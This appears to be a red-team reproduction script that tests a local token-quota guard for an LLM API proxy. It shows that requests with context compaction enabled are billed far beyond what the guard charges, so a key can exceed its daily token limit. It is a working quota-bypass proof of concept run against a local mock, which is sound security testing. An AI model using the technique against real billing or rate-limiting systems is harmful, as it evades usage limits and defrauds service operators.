// R79-1: Anthropic server-side compaction (context_management compact_20260112) is forwarded, and
// the guard settles on the top-level usage, which leaves out the compaction iteration the origin
// bills (usage.iterations). Needs the guard in front of redteam/round79/anthropic-origin.mjs
// (run.sh starts both). Node 22 built-ins only.
import { readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

const PORT = process.env.PORT || 8961;
const MOCK_PORT = process.env.MOCK_PORT || 8962;
const G = `http://127.0.0.1:${PORT}`;
const O = `http://127.0.0.1:${MOCK_PORT}`;
const root = join(dirname(fileURLToPath(import.meta.url)), "../..");
const T = readFileSync(join(root, ".dev.vars"), "utf8").match(/GUARD_ADMIN_TOKEN=(.*)/)[1].trim();
const admin = (p, init = {}) => fetch(G + "/admin" + p, { ...init, headers: { authorization: `Bearer ${T}`, "content-type": "application/json" } }).then((r) => r.json());
const ledger = () => fetch(O + "/_ledger").then((r) => r.json());
const tag = Math.random().toString(36).slice(2, 8);

const models = await fetch(G + "/v1/models", { headers: { "x-api-key": "sk-ant-r79-probe" } }).then((r) => r.json()).catch(() => ({}));
if (!JSON.stringify(models).includes("claude-fake-origin")) {
  console.log("the guard's origin is not redteam/round79/anthropic-origin.mjs (the built-in mock has no compaction); run run.sh");
  console.log("not reproduced");
  process.exit(0);
}

const TPD = 600000;
async function setup(key) {
  const { keyId } = await admin("/keys/lookup", { method: "POST", body: JSON.stringify({ key }) });
  await admin(`/keys/${keyId}/overrides`, { method: "PUT", body: JSON.stringify({ tpd: TPD, tpm: 2000000 }) });
  return keyId;
}
const context = "The quarterly report covers many topics in detail. ".repeat(14000); // ~178k tokens
function body(compact) {
  const b = { model: "claude-opus-4-6", max_tokens: 1024,
    messages: [{ role: "user", content: context }, { role: "assistant", content: "Noted." }, { role: "user", content: "Now answer my question about it." }] };
  if (compact) b.context_management = { edits: [{ type: "compact_20260112", trigger: { type: "input_tokens", value: 50000 },
    instructions: "Write a complete, detailed answer to the user's question." }] };
  return JSON.stringify(b);
}
async function run(key, compact, n) {
  const keyId = await setup(key);
  const l0 = await ledger();
  let served = 0, refused = 0, compactionBlocks = 0, firstRefusal = null;
  for (let i = 0; i < n; i++) {
    let r, j;
    for (let a = 0; a < 3; a++) { // as the SDKs do: honour a short Retry-After, at most twice
      r = await fetch(G + "/v1/messages", { method: "POST", headers: { "x-api-key": key, "content-type": "application/json", "anthropic-version": "2023-06-01", "anthropic-beta": "compact-2026-01-12" }, body: body(compact) });
      j = await r.json();
      const wait = Number(r.headers.get("retry-after"));
      if (r.status !== 429 || !(wait <= 5)) break;
      await new Promise((res) => setTimeout(res, wait * 1000 + 200));
    }
    if (r.status === 200) { served++; if (j.content?.some((c) => c.type === "compaction")) compactionBlocks++; } else { refused++; firstRefusal ??= `${r.status} ${j.error?.code ?? j.error?.type}: ${j.error?.message}`.slice(0, 200); }
  }
  await new Promise((r) => setTimeout(r, 3000));
  const l1 = await ledger();
  const st = await admin(`/keys/${keyId}`);
  const tpd = st.usage.find((u) => u.name === "tpd");
  return { served, refused, compactionBlocks, billed: (l1.billedInput - l0.billedInput) + (l1.billedOutput - l0.billedOutput),
    charged: st.counters.promptTokens + st.counters.completionTokens, tpdRemaining: tpd.remaining, firstRefusal };
}
const N = 12;
const control = await run(`sk-ant-r79-1-control-${tag}`, false, N);
const attack = await run(`sk-ant-r79-1-attack-${tag}`, true, N);
console.log(`tpd ${TPD} (tpm 2,000,000) on both keys, ${N} requests of a ~178k-token context each`);
console.log(`control (no context_management): served ${control.served}, refused ${control.refused}, origin billed ${control.billed}, guard charged ${control.charged} (tpd remaining ${control.tpdRemaining})`);
console.log(`attack (compact_20260112, trigger 50,000): served ${attack.served}, refused ${attack.refused}, compaction blocks ${attack.compactionBlocks}, origin billed ${attack.billed}, guard charged ${attack.charged} (tpd remaining ${attack.tpdRemaining})`);
for (const [n, x] of [["control", control], ["attack", attack]]) if (x.firstRefusal) console.log(`${n} first refusal: ${x.firstRefusal}`);
console.log(`billed / charged: ${(attack.billed / Math.max(1, attack.charged)).toFixed(1)}x`);
console.log(attack.served === N && attack.billed > 5 * attack.charged && attack.billed > 2 * TPD ? "REPRODUCED" : "not reproduced");
